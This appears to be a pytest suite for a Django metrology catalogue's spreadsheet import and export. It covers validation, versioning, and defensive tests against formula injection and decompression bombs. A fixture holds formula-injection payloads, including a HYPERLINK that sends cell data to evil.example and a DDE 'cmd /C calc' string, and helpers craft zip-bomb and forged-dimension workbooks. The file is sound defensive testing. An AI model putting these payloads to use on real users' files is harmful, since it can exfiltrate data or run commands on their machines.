import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from metrohub.catalogue import importing
from metrohub.catalogue.models import CapabilityLine, CapabilityVersion
from metrohub.catalogue.rows import COLUMNS
from metrohub.catalogue.services import import_rows
from metrohub.eventlog.models import Event


def _xlsx(rows) -> bytes:
    return importing.xlsx_bytes(rows)


def _count(center):
    return CapabilityLine.objects.filter(center=center).count()


def test_template_has_chinese_headers_and_drop_downs():
    book = load_workbook(io.BytesIO(importing.xlsx_bytes()))
    sheet = book[importing.SHEET]
    assert [c.value for c in sheet[1]] == [column.header for column in COLUMNS]
    validations = sheet.data_validations.dataValidation
    targets = {str(v.sqref).split(":")[0] for v in validations}
    assert {"A2", "B2", "K2", "M2", "S2"} <= targets
    lists = book[importing.LISTS_SHEET]
    assert [c.value for c in lists["A"]][1:5] == ["检定", "校准", "检测", "测试"]


def test_three_bad_rows_are_named_exactly_and_nothing_is_written(center, row):
    rows = [row(i) for i in range(20)]
    rows[3]["range_lower"] = "零"  # sheet row 5, column H
    rows[9]["unit"] = "兆帕斯卡"  # sheet row 11, column J
    rows[14]["methods"] = "JJG 52"  # sheet row 16, column R: no year
    before = _count(center)
    result = import_rows(
        actor=None, center=center, rows=importing.read_rows(_xlsx(rows), filename="x.xlsx")
    )
    assert not result.written
    assert result.bad_rows == [5, 11, 16]
    cells = [(i.row, importing.letter(i.column), i.value) for i in result.issues]
    assert cells == [(5, "H", "零"), (11, "J", "兆帕斯卡"), (16, "R", "JJG 52")]
    assert all(issue.message for issue in result.issues)
    assert _count(center) == before


def test_valid_only_imports_the_rest_and_reports(center, row):
    rows = [row(i) for i in range(10)]
    rows[2]["kind"] = "修理"
    before = _count(center)
    result = import_rows(
        actor=None,
        center=center,
        rows=importing.read_rows(_xlsx(rows), filename="x.xlsx"),
        valid_only=True,
    )
    assert result.written and result.created == 9 and result.bad_rows == [4]
    assert _count(center) == before + 9
    assert set(
        CapabilityLine.objects.filter(center=center, instrument="测试用数字压力计").values_list(
            "status", flat=True
        )
    ) == {"draft"}


def test_reimport_changes_nothing(center, row):
    data = importing.read_rows(_xlsx([row(i) for i in range(30)]), filename="x.xlsx")
    first = import_rows(actor=None, center=center, rows=data)
    assert first.created == 30
    lines = list(CapabilityLine.objects.filter(center=center).values())
    versions = CapabilityVersion.objects.count()
    second = import_rows(actor=None, center=center, rows=data)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 30)
    assert list(CapabilityLine.objects.filter(center=center).values()) == lines
    assert CapabilityVersion.objects.count() == versions


def test_changed_draft_gets_a_new_version(center, row):
    import_rows(actor=None, center=center, rows=[(2, row(0))])
    result = import_rows(actor=None, center=center, rows=[(2, row(0, uncertainty="0.0060"))])
    assert result.updated == 1
    line = CapabilityLine.objects.get(center=center, instrument="测试用数字压力计")
    assert line.version == 2
    assert [v.valid_to is None for v in line.versions.order_by("version")] == [False, True]


def test_published_line_cannot_change_by_import(center):
    line = CapabilityLine.objects.filter(center=center, status="published").first()
    from metrohub.catalogue.rows import line_to_row

    changed = {**line_to_row(line), "cnas": "否" if line.cnas else "是"}
    result = import_rows(actor=None, center=center, rows=[(2, changed)])
    assert result.bad_rows == [2] and not result.written
    same = import_rows(actor=None, center=center, rows=[(2, line_to_row(line))])
    assert same.unchanged == 1 and not same.issues


def test_duplicate_rows_in_file(center, row):
    result = import_rows(actor=None, center=center, rows=[(2, row(1)), (3, row(1))])
    assert result.bad_rows == [3]


def test_export_then_import_is_a_no_op(center):
    lines = list(CapabilityLine.objects.filter(center=center))
    rows = importing.read_rows(_xlsx(importing.export_rows(lines)), filename="e.xlsx")
    result = import_rows(actor=None, center=center, rows=rows)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(lines))


def test_csv_import(center, row):
    text = importing.csv_text([row(i) for i in range(3)])
    rows = importing.read_rows(text.encode("utf-8"), filename="x.csv")
    assert import_rows(actor=None, center=center, rows=rows).created == 3


def test_wrong_file_is_refused():
    with pytest.raises(importing.FileError):
        importing.read_rows(b"not a workbook", filename="x.xlsx")


def test_import_appends_an_event(center, row):
    import_rows(actor=None, center=center, rows=[(2, row(0))], source="a.xlsx")
    event = Event.objects.filter(subject="catalogue:CQ-AUTO").last()
    assert event.action == "catalogue.imported" and event.payload["created"] == 1


def test_command(center, row, tmp_path, capsys):
    path = tmp_path / "lines.xlsx"
    path.write_bytes(_xlsx([row(i) for i in range(5)]))
    call_command("catalogue", "import", "--center", "CQ-AUTO", str(path))
    assert "5 new" in capsys.readouterr().out
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(_xlsx([row(10, coverage_k="abc")]))
    with pytest.raises(CommandError):
        call_command("catalogue", "import", "--center", "CQ-AUTO", str(bad))
    assert "row 2, column O" in capsys.readouterr().err
    out = tmp_path / "out.json"
    call_command("catalogue", "export", "--center", "CQ-AUTO", str(out))
    assert "测试用数字压力计" in out.read_text(encoding="utf-8")


def test_2300_rows_in_seconds(center, row):
    import time

    rows = importing.read_rows(_xlsx([row(i) for i in range(2300)]), filename="big.xlsx")
    started = time.perf_counter()
    result = import_rows(actor=None, center=center, rows=rows)
    assert result.created == 2300
    assert time.perf_counter() - started < 15


FORMULAS = {
    "measurand": '=HYPERLINK("http://evil.example/?"&A1,"压力")',
    "instrument": "@SUM(1+1)*cmd|' /C calc'!A0",
    "conditions": "+1+1",
    "branch": "-2+3",
}


@pytest.fixture
def formula_center(center, row):
    from metrohub.catalogue.services import publish_drafts

    result = import_rows(actor=None, center=center, rows=[(2, row(500, **FORMULAS))])
    assert result.created == 1, result.issues
    publish_drafts(actor=None, center=center)
    return center


def _exported_line(rows, instrument):
    found = [r for r in rows if r["instrument"].endswith(instrument)]
    assert len(found) == 1
    return found[0]


def test_public_csv_export_writes_formulas_as_text(client, formula_center):
    import csv

    response = client.get("/catalogue/centers/CQ-AUTO/export.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    keys = [column.key for column in COLUMNS]
    line = _exported_line([dict(zip(keys, r, strict=True)) for r in rows[1:]], "A0")
    assert {key: line[key] for key in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    assert line["range_lower"] == "0"


def test_public_xlsx_export_holds_no_formula_cell(client, formula_center):
    response = client.get("/catalogue/centers/CQ-AUTO/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))[importing.SHEET]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {"'" + v for v in FORMULAS.values()} <= values


def test_search_export_is_neutralised_too(client, formula_center):
    response = client.get("/catalogue/export.csv", {"q": "calc"})
    assert "'@SUM(1+1)" in response.content.decode("utf-8-sig")


def test_a_neutralised_export_imports_back_unchanged(formula_center):
    lines = list(CapabilityLine.objects.filter(center=formula_center))
    rows = importing.read_rows(_xlsx(importing.export_rows(lines)), filename="e.xlsx")
    result = import_rows(actor=None, center=formula_center, rows=rows)
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(lines))
    line = CapabilityLine.objects.get(center=formula_center, instrument=FORMULAS["instrument"])
    assert line.measurand == FORMULAS["measurand"]


# --- bounded reading (huge sheets in small files) ------------------------------------------------


def _sheet_xlsx(rows_xml, *, dimension: str = "A1:S1") -> bytes:
    """A minimal workbook written by hand: the header, then the given <row> elements."""
    import zipfile

    cells = "".join(
        f'<c r="{importing.get_column_letter(i)}1" t="inlineStr"><is><t>{c.header}</t></is></c>'
        for i, c in enumerate(COLUMNS, start=1)
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData><row r="1">{cells}</row>'
    )
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="能力目录" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(sheet.encode())
            for chunk in rows_xml:
                member.write(chunk.encode())
            member.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def _tiny_rows(count: int):
    for start in range(2, count + 2, 10_000):
        yield "".join(
            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>校准</t></is></c></row>'
            for n in range(start, min(start + 10_000, count + 2))
        )


def _peak(function):
    import tracemalloc

    tracemalloc.start()
    try:
        try:
            outcome = function()
        except importing.FileError as exc:
            outcome = exc
        return outcome, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_sheet_of_many_rows_stops_at_the_stated_limit(settings):
    settings.LANGUAGE_CODE = "zh-hans"
    data = _sheet_xlsx(_tiny_rows(60_000))
    assert len(data) < 2 * 1024 * 1024
    outcome, peak = _peak(lambda: importing.read_rows(data, filename="huge.xlsx", max_rows=2_000))
    assert isinstance(outcome, importing.FileError)
    assert str(outcome) == "文件超过 2,000 行；每次最多导入 2,000 行（请拆分文件）。"
    assert peak < 16 * 1024 * 1024, f"{peak / 1048576:.0f} MiB"


def test_empty_rows_claimed_by_a_tiny_sheet_are_not_walked_for_ever():
    far = 1_000_000
    data = _sheet_xlsx([f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>x</t></is></c></row>'])
    with pytest.raises(importing.FileError, match="2,000"):
        importing.read_rows(data, filename="sparse.xlsx", max_rows=2_000)


def test_a_forged_dimension_does_not_widen_the_rows(row):
    values = [row(0).get(c.key, "") for c in COLUMNS]
    cells = "".join(
        f'<c r="{importing.get_column_letter(i)}2" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values, start=1)
    )
    data = _sheet_xlsx([f'<row r="2">{cells}</row>'], dimension="A1:XFD1048576")
    rows = importing.read_rows(data, filename="wide.xlsx")
    assert [(n, r["instrument"]) for n, r in rows] == [(2, "测试用数字压力计")]


def test_a_workbook_that_inflates_beyond_the_bound_is_refused():
    padding = (" " * 1024 * 1024 for _ in range(importing.max_uncompressed(100) // 1048576 + 1))
    data = _sheet_xlsx(padding)
    assert len(data) < 1024 * 1024
    with pytest.raises(importing.FileError, match="16 MB"):
        importing.read_rows(data, filename="bomb.xlsx", max_rows=100)


def test_a_csv_of_too_many_rows_is_refused(row):
    text = importing.csv_text([row(i) for i in range(101)])
    with pytest.raises(importing.FileError, match="100"):
        importing.read_rows(text.encode(), filename="x.csv", max_rows=100)
    assert len(importing.read_rows(text.encode(), filename="x.csv", max_rows=101)) == 101


def test_json_export_writes_numbers_as_people_do(center, row):
    given = row(90, instrument="导出用压力计", range_lower="100", range_upper="2000")
    import_rows(actor=None, center=center, rows=[(2, given)])
    line = CapabilityLine.objects.get(center=center, instrument="导出用压力计")
    exported = importing.line_json(line)
    assert (exported["range_lower"], exported["range_upper"]) == ("100", "2000")
